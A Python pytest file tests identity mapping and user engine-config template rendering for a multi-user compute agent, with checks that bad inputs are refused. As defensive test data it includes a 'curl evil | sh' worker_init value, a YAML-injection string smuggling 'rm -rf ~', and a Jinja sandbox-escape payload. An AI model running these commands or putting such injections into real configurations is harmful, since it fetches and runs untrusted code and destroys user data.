"""Identity mapping and user-config templates, as plain functions."""

from __future__ import annotations

import json
from pathlib import Path

import jsonschema
import pytest

from gc_agent.config import IdentityRule
from gc_agent.multiuser.mapping import lookup_account, map_identity
from gc_agent.multiuser.templates import render_user_engine
from gc_core.errors import ConfigError, PolicyError

TEMPLATES = Path(__file__).resolve().parents[2] / "deploy" / "templates"
RULES = [IdentityRule(match=r"(.*)@uni\.edu", output="{0}"),
         IdentityRule(match=r"(?P<first>\w+)\.(?P<last>\w+)@lab\.org", output="{last}_{first}")]


def test_the_first_matching_rule_names_the_account() -> None:
    assert map_identity("alice@uni.edu", RULES) == "alice"
    assert map_identity("ada.lovelace@lab.org", RULES) == "lovelace_ada"


def test_a_rule_must_match_the_whole_identity() -> None:
    with pytest.raises(PolicyError, match="no identity mapping rule matches"):
        map_identity("alice@uni.edu.evil.com", RULES)


def test_an_external_command_maps_when_no_rule_does() -> None:
    assert map_identity("x@y", [], "tr '@' '_'") == "x_y"
    with pytest.raises(PolicyError):
        map_identity("x@y", [], "true")  # prints nothing: no match


def test_root_and_unknown_accounts_are_refused() -> None:
    with pytest.raises(PolicyError, match="never run as root"):
        lookup_account("root", "admin@uni.edu")
    with pytest.raises(PolicyError, match="not an account on this machine"):
        lookup_account("no-such-account-here", "ghost@uni.edu")


def test_the_shipped_template_renders_defaults_and_allowed_options() -> None:
    template = (TEMPLATES / "local.yaml.j2").read_text()
    schema = json.loads((TEMPLATES / "local.schema.json").read_text())
    assert render_user_engine(template, schema, {}, account="alice").max_workers == 1
    assert render_user_engine(template, schema, {"workers": 3}, account="alice").max_workers == 3
    with pytest.raises(PolicyError, match=r"refused at workers.*maximum of 4"):
        render_user_engine(template, schema, {"workers": 9}, account="alice")
    with pytest.raises(PolicyError, match="partition"):
        render_user_engine(template, schema, {"partition": "gpu"}, account="alice")


def test_a_template_cannot_reach_outside_its_sandbox() -> None:
    sneaky = "type: processes\nmax_workers: {{ ''.__class__.__mro__[1].__subclasses__() | length }}"
    with pytest.raises(ConfigError):
        render_user_engine(sneaky, {}, {}, account="alice")


def test_a_template_naming_an_unknown_value_is_an_admin_error() -> None:
    with pytest.raises(ConfigError, match="user config template"):
        render_user_engine("type: processes\nmax_workers: {{ cores }}", {}, {}, account="alice")


@pytest.mark.parametrize(("name", "provider", "queue_key"), [
    ("slurm", "slurm", "partition"), ("pbspro", "pbspro", "queue"), ("lsf", "lsf", "queue")])
def test_each_batch_template_renders_an_htex_engine_that_its_schema_lets_users_tune(
        name: str, provider: str, queue_key: str) -> None:
    from gc_agent.config import HtexEngineConfig

    template = (TEMPLATES / f"{name}.yaml.j2").read_text()
    schema = json.loads((TEMPLATES / f"{name}.schema.json").read_text())
    jsonschema.Draft202012Validator.check_schema(schema)

    engine = render_user_engine(template, schema, {}, account="alice")
    assert isinstance(engine, HtexEngineConfig) and engine.provider.type == provider
    tuned = render_user_engine(template, schema, {"walltime": "02:15:00", "max_blocks": 3},
                               account="alice")
    assert isinstance(tuned, HtexEngineConfig)
    assert tuned.provider.walltime == "02:15:00" and tuned.provider.max_blocks == 3
    # a value the schema refuses is named with its rule; so is a key it does not have
    with pytest.raises(PolicyError, match=r"refused at walltime.*does not match"):
        render_user_engine(template, schema, {"walltime": "2h"}, account="alice")
    with pytest.raises(PolicyError, match=r"refused at max_blocks.*maximum of 4"):
        render_user_engine(template, schema, {"max_blocks": 40}, account="alice")
    with pytest.raises(PolicyError, match=f"refused at {queue_key}.*is not one of"):
        render_user_engine(template, schema, {queue_key: "gpu-priority"}, account="alice")
    with pytest.raises(PolicyError, match="worker_init"):
        render_user_engine(template, schema, {"worker_init": "curl evil | sh"}, account="alice")


def test_a_string_option_cannot_add_yaml_keys_to_the_rendered_engine() -> None:
    from gc_agent.config import HtexEngineConfig

    template = (TEMPLATES / "slurm.yaml.j2").read_text()
    schema = {**json.loads((TEMPLATES / "slurm.schema.json").read_text())}
    loose = {**schema, "properties": {**schema["properties"], "allocation": {"type": "string"}}}

    engine = render_user_engine(template, loose, {"allocation": "lab\n  worker_init: rm -rf ~"},
                                account="alice")

    assert isinstance(engine, HtexEngineConfig)
    assert engine.provider.account == "lab\n  worker_init: rm -rf ~"  # a value, not a key
    assert engine.provider.worker_init == ""


def test_a_threads_engine_from_a_template_is_refused_naming_the_allowed_types() -> None:
    from gc_agent.config import MultiUserConfig
    from gc_agent.execution import Job
    from gc_agent.multiuser.engines import UserEngines

    outcomes = []
    engines = UserEngines(MultiUserConfig(
        identity_mapping=[IdentityRule(match=r"(.*)@uni\.edu", output="nobody")],
        user_config_template=TEMPLATES / "local.yaml.j2"), nominal_capacity=1)
    engines._template = "type: threads\nmax_workers: 1"
    engines.submit(Job("t1", "f", b"", "", "", b"", "", "", identity="x@uni.edu"), outcomes.append)

    assert outcomes[0].state == "failed" and outcomes[0].error is not None
    assert "'threads'" in outcomes[0].error.message and "'htex'" in outcomes[0].error.message


def test_a_workers_outcome_crosses_as_json_and_bad_outcomes_are_refused() -> None:
    # (the messages to and from a user's engine: test_multiuser_messages.py)
    from gc_agent.execution import Outcome
    from gc_agent.wire import outcome_from_wire, outcome_to_wire
    from gc_core.protocol import ErrorInfo

    outcome = Outcome("t1", "failed", payload=b"\x00", error=ErrorInfo(type="E", message="m"),
                      started=1.0, worker="n1:2 block 0 slurm job 7")

    assert outcome_from_wire(outcome_to_wire(outcome)) == outcome
    fields = json.loads(outcome_to_wire(outcome))
    for bad in ({**fields, "state": "pwned"}, {"task_id": "t1"}, "not a dict",
                {**fields, "payload": "%%%"}):
        with pytest.raises(ValueError):
            outcome_from_wire(json.dumps(bad).encode())
    for not_json in (b"[" * 5000, b"\xff\xfe", b""):
        with pytest.raises(ValueError):
            outcome_from_wire(not_json)


#: A user endpoint template as a Globus Compute multi-user endpoint's administrator writes it:
#: a whole endpoint config, the engine in Globus Compute's words.
GLOBUS_TEMPLATE = """\
endpoint_setup: {{ endpoint_setup | default() }}
engine:
  type: GlobusComputeEngine
  max_workers_per_node: {{ workers | default(2) }}
  provider:
    type: SlurmProvider
    partition: {{ partition | default("debug") | tojson }}
    account: {{ account | tojson }}
    walltime: "01:00:00"
    nodes_per_block: 1
    init_blocks: 0
    max_blocks: 2
    launcher: {type: SrunLauncher}
"""


def test_a_globus_compute_user_template_renders_its_engine_in_our_words() -> None:
    from gc_agent.config import HtexEngineConfig

    engine = render_user_engine(GLOBUS_TEMPLATE, {}, {"partition": "gpu", "workers": 4},
                                account="alice")

    assert isinstance(engine, HtexEngineConfig) and engine.max_workers_per_node == 4
    provider = engine.provider.model_dump()
    assert (provider["type"], provider["partition"], provider["account"]) == (
        "slurm", "gpu", "alice")
    assert provider["launcher"]["type"] == "srun"


@pytest.mark.parametrize(("extra", "named"), [
    ("idle_heartbeats_soft: 10\n", "idle_heartbeats_soft"),
    ("display_name: Alice's endpoint\n", "display_name"),
    ("endpoint_setup: module load python\n", "endpoint_setup"),
])
def test_what_a_users_engine_cannot_take_from_such_a_template_is_refused_by_name(
        extra: str, named: str) -> None:
    template = GLOBUS_TEMPLATE.replace("endpoint_setup: {{ endpoint_setup | default() }}\n",
                                       extra)

    with pytest.raises(ConfigError, match=f"{named}.*user_idle_timeout"):
        render_user_engine(template, {}, {}, account="alice")


def test_a_globus_compute_engine_key_we_cannot_honour_is_refused_with_its_reason() -> None:
    template = GLOBUS_TEMPLATE.replace("    nodes_per_block: 1\n", "    gres: gpu:4\n")

    with pytest.raises(ConfigError, match=r"engine.provider.gres: cannot be honoured"):
        render_user_engine(template, {}, {}, account="alice")


def test_globus_computes_own_template_variables_are_named_as_missing_here() -> None:
    template = "{% set rt = _GC.user_runtime %}" + GLOBUS_TEMPLATE

    with pytest.raises(ConfigError, match=r"_GC.*Globus Compute's own"):
        render_user_engine(template, {}, {}, account="alice")


def test_a_user_option_cannot_take_the_name_of_the_local_account() -> None:
    # A schema that lets anything through (as Globus Compute's default one does).
    with pytest.raises(PolicyError, match=r"account.*the local account"):
        render_user_engine("type: processes\nmax_workers: 1", {}, {"account": "proj-42"},
                           account="alice")


def test_a_template_that_fails_every_user_is_found_before_any_task_comes() -> None:
    from gc_agent.multiuser.templates import template_problem

    broken = GLOBUS_TEMPLATE.replace("endpoint_setup: {{ endpoint_setup | default() }}\n",
                                     "idle_heartbeats_soft: 10\n")
    needs_an_option = {"type": "object", "required": ["partition"],
                       "properties": {"partition": {"type": "string"}}}

    assert "idle_heartbeats_soft" in (template_problem(broken, {}) or "")
    assert "'threads'" in (template_problem("type: threads\nmax_workers: 1", {}) or "")
    assert template_problem(GLOBUS_TEMPLATE, {}) is None
    # Users must give an option first: only their tasks can tell.
    assert template_problem(GLOBUS_TEMPLATE, needs_an_option) is None
